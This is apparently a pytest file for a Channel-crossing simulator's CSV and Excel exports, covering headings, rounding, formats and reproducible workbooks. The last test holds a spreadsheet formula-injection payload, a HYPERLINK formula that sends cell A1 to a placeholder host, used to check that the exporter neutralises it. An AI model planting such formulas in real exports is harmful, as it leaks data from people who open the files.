"""Exports: CSV beside every Parquet table and one workbook, opened here with openpyxl."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from channelsim.engine import all_results
from channelsim.exports import WORKBOOK, export_folder

#: The headings of a comparison's statistics in its CSV: differences, not totals.
DIFFERENCE_HEADINGS = [
    "difference from base: median",
    "difference from base: low (5%)",
    "difference from base: high (95%)",
]


def _folder(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    pd.DataFrame(
        {
            "date": [dt.date(2025, 1, 1), dt.date(2025, 1, 2)],
            "arrived_people": np.array([0, 1305], dtype=np.int64),
            "cost_gbp": [17_520_000.0, 0.0],
            "people_per_boat": [np.nan, 62.14],
            "zone": pd.Categorical(["Calais / Sangatte", "Baie de Somme"]),
        }
    ).to_parquet(folder / "daily.parquet", index=False)
    pd.DataFrame({"figure": ["arrived_people"], "median": [41508.0]}).to_parquet(
        folder / "a-table-with-a-name-longer-than-excel-allows.parquet", index=False
    )
    (folder / "meta.json").write_text('{"scenario": "status-quo-2025", "seed": 2025}')
    return folder


def test_csv_beside_parquet_and_a_workbook_with_a_readme(tmp_path: Path) -> None:
    folder = _folder(tmp_path)
    written = export_folder(
        folder, all_results().describe, sources=["Source: Home Office (test line)."]
    )
    names = sorted(p.name for p in written)
    assert names == sorted(
        ["daily.csv", "a-table-with-a-name-longer-than-excel-allows.csv", WORKBOOK]
    )
    # headings are the results registry's labels and units; the Parquet keeps the names
    headings = [
        "Date",
        "People arrived in the UK",
        "Extra cost of policies (£)",
        "People per boat arrived (people/boat)",
        "Launch zone",
        "Source",
    ]
    csv = pd.read_csv(folder / "daily.csv")
    assert list(csv.columns) == headings
    assert csv["People arrived in the UK"].tolist() == [0, 1305]
    assert csv["Date"][1] == "2025-01-02"
    long = pd.read_csv(folder / "a-table-with-a-name-longer-than-excel-allows.csv")
    assert long.iloc[0].tolist()[:4] == ["arrived_people", "People arrived in the UK", "people",
                                         41508]  # fmt: skip
    assert "scenario status-quo-2025, seed 2025" in long["Source"][0]
    assert "MIT licence" in long["Source"][0]

    book = load_workbook(folder / WORKBOOK)
    assert book.sheetnames[0] == "README" and "daily" in book.sheetnames
    long_name = next(n for n in book.sheetnames if n.startswith("a-table"))
    assert len(long_name) <= 31
    readme = [row for row in book["README"].iter_rows(values_only=True)]
    text = " ".join(str(v) for row in readme for v in row if v is not None)
    assert "Source: Home Office (test line)." in text
    assert "scenario status-quo-2025, seed 2025" in text
    cost = next(row for row in readme if row[:2] == ("daily", "cost_gbp"))
    assert cost[2:4] == ("Extra cost of policies (£)", "£") and "extra cost" in cost[4]

    daily = book["daily"]
    header = [c.value for c in daily[1]]
    assert header == headings
    second = daily[3]
    assert second[1].value == 1305 and isinstance(second[1].value, int)
    assert second[1].number_format == "#,##0"
    assert daily[2][2].value == 17_520_000 and daily[2][2].number_format == '"£"#,##0'
    assert daily[2][3].value is None  # NaN is an empty cell
    assert daily[3][4].value == "Baie de Somme"
    assert daily.freeze_panes == "A2"


def test_a_table_too_large_for_a_sheet_stays_csv_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import channelsim.exports as exports

    folder = _folder(tmp_path)
    monkeypatch.setattr(exports, "MAX_SHEET_CELLS", 6)
    export_folder(folder)
    book = load_workbook(folder / WORKBOOK)
    assert "daily" not in book.sheetnames and (folder / "daily.csv").is_file()
    rows = [r for r in book["README"].iter_rows(values_only=True)]
    assert ("daily.csv only", "", "", "", "2 rows: too large for a sheet") in [
        tuple("" if v is None else v for v in r) for r in rows
    ]


def test_an_empty_folder_exports_nothing(tmp_path: Path) -> None:
    assert export_folder(tmp_path) == []
    assert not (tmp_path / WORKBOOK).exists()


def test_run_out_folder_has_csv_and_a_workbook_beside_parquet(tmp_path: Path, run_cli: Any) -> None:
    scenario = Path(__file__).resolve().parent.parent / "scenarios" / "status-quo-2025.toml"
    out = tmp_path / "run"
    result = run_cli(
        "run", scenario, "--from", "2025-06-01", "--to", "2025-06-10", "--out", out,
        "--format", "json",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    results = all_results()
    for name in ("daily", "boats"):
        table = pd.read_parquet(out / f"{name}.parquet")
        csv = pd.read_csv(out / f"{name}.csv")
        assert list(csv.columns) == [results.describe(c).heading for c in table.columns] + [
            "Source"
        ]
        # the CSV quotes what the Parquet holds: counts and money whole, measures to six
        # significant figures (no float noise), within half a unit of the last figure kept
        for column in table.columns:
            field = results.describe(column)
            if not pd.api.types.is_float_dtype(table[column]):
                continue
            exact, quoted = table[column].to_numpy(), csv[field.heading].to_numpy(float)
            assert np.allclose(quoted, exact, rtol=5e-6, atol=0.5, equal_nan=True), column
            shown = csv[field.heading].dropna().astype(str)
            fractions = shown[shown.str.contains(".", regex=False)]
            digits = fractions.str.replace(r"[-.]", "", regex=True).str.lstrip("0")
            assert (digits.str.len() <= 6).all(), (column, fractions.head())
    book = load_workbook(out / WORKBOOK, read_only=True)
    assert book.sheetnames == ["README", "boats", "costs", "daily", "totals"]
    daily = pd.read_parquet(out / "daily.parquet")
    rows = list(book["daily"].iter_rows(values_only=True))
    assert len(rows) == len(daily) + 1
    arrived = list(daily.columns).index("arrived_people")
    assert [r[arrived] for r in rows[1:]] == daily["arrived_people"].tolist()
    marker = json.loads((out / ".channelsim-output.json").read_text())
    assert {"daily.csv", "boats.csv", WORKBOOK} <= set(marker["files"])


def test_quoted_table_rounds_a_count_s_statistics_but_not_its_shares() -> None:
    """ "What decides" rows name a count (``output``) beside shares and noise levels: the
    median and interval of the count are whole numbers for reading, the shares are not
    rounded to 0 or 1 (they were, being columns nothing declares)."""
    from channelsim.exports import quoted_table

    table = pd.DataFrame(
        {
            "output": ["arrived_people"],
            "share": [0.579],
            "share_conf": [0.649],
            "noise_level": [0.483],
            "median": [3801.5],
            "low": [3313.65],
        }
    )
    read = quoted_table(table, all_results().describe).iloc[0]
    assert (read["share"], read["share_conf"], read["noise_level"]) == (0.579, 0.649, 0.483)
    assert (read["median"], read["low"]) == (3802, 3314)


def _written(tmp_path: Path, tables: dict[str, pd.DataFrame]) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    for name, table in tables.items():
        table.to_parquet(folder / f"{name}.parquet", index=False)
    export_folder(folder, all_results().describe)
    return folder


def test_counts_and_money_are_whole_and_measures_lose_their_float_noise(tmp_path: Path) -> None:
    """A ranked comparison's medians of an even number of runs (3801.5 people) are quoted
    whole, halves away from zero, as everywhere; money to whole pounds (it was written
    121177002.05338873); a measure without binary noise (1105.5000000000002, 0.1 + 0.2)."""
    folder = _written(
        tmp_path,
        {
            "tradeoffs": pd.DataFrame(
                {
                    "rank": [1],
                    "scenario": ["beach-funding-plus"],
                    "fewer_arrivals_people": [3801.5],
                    "fewer_arrivals_low": [-27.5],
                    "extra_cost_gbp": [121177002.05338873],
                    "cost_per_prevented_arrival_gbp": [4141.695111454714],
                }
            ),
            "comparison": pd.DataFrame(
                {
                    "scenario": ["a", "a", "a"],
                    "figure": ["arrived_people", "cost_gbp", "people_per_boat"],
                    "median": [1105.5000000000002, 4141.695111454714, 0.1 + 0.2],
                    "low": [-88.34999999999998, 10.5, 0.02500000000000213],
                }
            ),
        },
    )
    ranked = (folder / "tradeoffs.csv").read_text().splitlines()[1]
    assert ranked.startswith("1,beach-funding-plus,3802,-28,121177002,4142,"), ranked
    rows = pd.read_csv(folder / "comparison.csv", dtype=str).set_index("Figure")
    assert rows.loc["arrived_people", DIFFERENCE_HEADINGS[:2]].tolist() == ["1106", "-88"]
    assert rows.loc["cost_gbp", DIFFERENCE_HEADINGS[:2]].tolist() == ["4142", "11"]
    # people per boat to one decimal, as every table shows it (0.025 read 0.025 beside 0.0)
    assert rows.loc["people_per_boat", DIFFERENCE_HEADINGS[:2]].tolist() == ["0.3", "0.0"]
    book = load_workbook(folder / WORKBOOK)
    sheet = book["tradeoffs"]
    assert [c.value for c in sheet[2]][2:6] == [3802, -28, 121177002, 4142]


def test_what_decides_names_inputs_by_label_and_gives_shares_no_figure_unit(
    tmp_path: Path,
) -> None:
    """ "What decides": the kind of input (not "Kind of run"), the input's label with its
    code name in a column of its own, and no figure's unit (people) beside shares."""
    folder = _written(
        tmp_path,
        {
            "what_decides": pd.DataFrame(
                {
                    "scenario": ["a"],
                    "figure": ["arrived_people"],
                    "input": ["coast.inflow_people_per_day"],
                    "kind": ["calibrated"],
                    "share": [0.5790000000000001],
                    "share_conf": [0.1],
                    "share_low": [0.479],
                    "noise_level": [0.2],
                    "above_noise": [True],
                    "runs": [64],
                    "runs_needed": [40],
                }
            )
        },
    )
    csv = pd.read_csv(folder / "what_decides.csv")
    assert list(csv.columns)[:6] == [
        "Scenario", "Figure", "Label", "Input", "Input code name", "Kind of input"
    ]  # fmt: skip
    assert "Unit" not in csv.columns and "Kind of run" not in csv.columns
    row = csv.iloc[0]
    assert row["Input"] != "coast.inflow_people_per_day" and "inflow" in row["Input"]
    assert row["Input code name"] == "coast.inflow_people_per_day"
    assert row["Share of the variance (fraction)"] == 0.579


def test_sensitivity_indices_keep_parameter_ranges_and_give_mu_star_its_output_unit(
    tmp_path: Path,
) -> None:
    """A parameter's range (0.74–0.92) is not rounded as if it were a count of people (it
    was 1, 1), and mu* has the unit of the output it is about beside it."""
    folder = _written(
        tmp_path,
        {
            "indices": pd.DataFrame(
                {
                    "output": ["arrived_people"],
                    "parameter": ["beach.prevention_probability"],
                    "unit": ["probability"],
                    "low": [0.74],
                    "high": [0.92],
                    "method": ["morris"],
                    "mu_star": [587.9999999999999],
                    "mu_star_conf": [78.55664431406709],
                    "sigma": [80.6],
                    "mu": [-587.9999999999999],
                }
            )
        },
    )
    row = pd.read_csv(folder / "indices.csv").iloc[0]
    assert (row["Parameter range, low"], row["Parameter range, high"]) == (0.74, 0.92)
    assert row["Output unit"] == "people" and row["Parameter unit"] == "probability"
    assert (row["mu*"], row["mu* 95% half-width"], row["mu"]) == (588, 78.5566, -588)
    assert row["Parameter code name"] == "beach.prevention_probability"


def test_identical_runs_write_identical_workbooks(tmp_path: Path) -> None:
    """tables.xlsx differed between identical runs: openpyxl stamps the time of saving in
    the document's properties and in every part of its ZIP file, and the README said the
    day. The workbook's times are fixed (1 Jan 2018, the model's day 0)."""
    import zipfile

    written = []
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        folder = _folder(tmp_path / name)
        export_folder(folder, all_results().describe)
        written.append((folder / WORKBOOK).read_bytes())
        with zipfile.ZipFile(folder / WORKBOOK) as book:
            assert {i.date_time for i in book.infolist()} == {(2018, 1, 1, 0, 0, 0)}
            core = book.read("docProps/core.xml").decode()
            assert core.count("2018-01-01T00:00:00Z") == 2, core  # created and modified
    assert written[0] == written[1]


def test_long_tables_format_each_row_as_its_figure_and_days_as_counts(tmp_path: Path) -> None:
    """The comparison and pairs sheets formatted every statistic '#,##0.00###' (people with
    decimals, money without £); daily.csv said True/False under "Crossing window (days)"
    among counts; costs.csv named items by code (one_in_one_out)."""
    folder = tmp_path / "out"
    folder.mkdir()
    pd.DataFrame(
        {
            "scenario": ["x", "x", "x"],
            "figure": ["arrived_people", "cost_gbp", "people_per_boat"],
            "median": [46.0, 98_050_000.0, 0.5],
        }
    ).to_parquet(folder / "comparison.parquet", index=False)
    pd.DataFrame(
        {"date": [dt.date(2025, 1, 1), dt.date(2025, 1, 2)], "crossing_window": [False, True]}
    ).to_parquet(folder / "daily.parquet", index=False)
    items = ["one_in_one_out", "echr_exit_detention"]
    costs = {"date": [dt.date(2025, 8, 5)] * 2, "item": items, "cost_gbp": [0.0, 1.0]}
    pd.DataFrame(costs).to_parquet(folder / "costs.parquet", index=False)
    export_folder(folder, all_results().describe)
    sheet = load_workbook(folder / WORKBOOK)["comparison"]
    column = [c.value for c in sheet[1]].index(DIFFERENCE_HEADINGS[0]) + 1
    formats = [sheet.cell(row=r, column=column).number_format for r in (2, 3, 4)]
    assert formats == ["#,##0", '"£"#,##0', "#,##0.00###"]
    daily = pd.read_csv(folder / "daily.csv")
    assert daily["Crossing window (days)"].tolist() == [0, 1]
    costs = pd.read_csv(folder / "costs.csv")
    assert costs["Cost item"].tolist() == ["one in one out", "echr exit (detention)"]
    assert costs["Cost item code"].tolist() == ["one_in_one_out", "echr_exit_detention"]


def test_a_seed_a_spreadsheet_would_round_is_written_as_text(tmp_path: Path) -> None:
    """The members sheet showed seed 8460147692890830636 as 8460147692890830000 (a
    spreadsheet keeps 15 digits): the one column meant for reproducing a member was wrong."""
    seed = 8460147692890830636
    folder = _written(tmp_path, {"members": pd.DataFrame({"rep": [0, 1], "seed": [seed, 7]})})
    sheet = load_workbook(folder / WORKBOOK)["members"]
    column = {cell.value: k for k, cell in enumerate(sheet[1])}
    rep, seed_cell = sheet[2][column["Replicate"]], sheet[2][column["Seed"]]
    assert (seed_cell.value, seed_cell.number_format) == (str(seed), "@")
    assert rep.value == 0  # a small identifier stays a number
    assert sheet[3][column["Seed"]].value == "7"  # the column is one kind: text throughout
    assert pd.read_csv(folder / "members.csv")["Seed"].tolist() == [seed, 7]


def test_no_cell_is_written_as_a_formula_a_spreadsheet_would_run(
    tmp_path: Path, run_cli: Any
) -> None:
    """A claim's speaker ``=HYPERLINK(…)`` was written to CSV and to the workbook as a live
    formula (s11 breaker F17): texts that start like a formula are kept as text (a leading
    ``'`` in CSV, a text cell in the workbook); numbers, negative ones too, stay numbers."""
    from channelsim.formatting import inert

    link = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    assert [inert(v) for v in (link, "@SUM(1+1)", "+1", "-35.5", "-1,234", -3, "Calais")] == [
        "'" + link, "'@SUM(1+1)", "+1", "-35.5", "-1,234", -3, "Calais",
    ]  # fmt: skip
    folder = tmp_path / "out"
    folder.mkdir()
    pd.DataFrame({"figure": [link, "-x"], "median": [-5.0, 1.0]}).to_parquet(
        folder / "claims.parquet", index=False
    )
    export_folder(folder)
    csv = pd.read_csv(folder / "claims.csv")
    assert csv.iloc[:, 0].tolist() == ["'" + link, "'-x"]
    assert csv["median"].tolist() == [-5.0, 1.0]
    sheet = load_workbook(folder / WORKBOOK)["claims"]
    cell = sheet.cell(row=2, column=1)
    assert cell.value == link and cell.data_type == "s"
    assert sheet.cell(row=1, column=4).value == "median"
    assert sheet.cell(row=2, column=4).value == -5
    # the command line's CSV (claims --format csv)
    claims = tmp_path / "claims.yaml"
    claims.write_text(
        "claims:\n"
        "  - id: a\n"
        f"    speaker: '{link}'\n"
        "    quote: More than a thousand.\n"
        "    unit: people\n"
        "    said_on: 2025-06-01\n"
        "    metric: arrived_people\n"
        "    period: {kind: rolling_months, months: 12}\n"
        "    comparison: more_than\n"
        "    figure: 1000\n",
        encoding="utf-8",
    )
    from spreadsheets import make_rows, write_publication

    data = write_publication(tmp_path / "pub.ods", *make_rows(dt.date(2024, 4, 29), 400))
    result = run_cli("claims", claims, "--data", data, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert f"'{link}".replace('"', '""') in result.stdout and ",=HYPERLINK" not in result.stdout
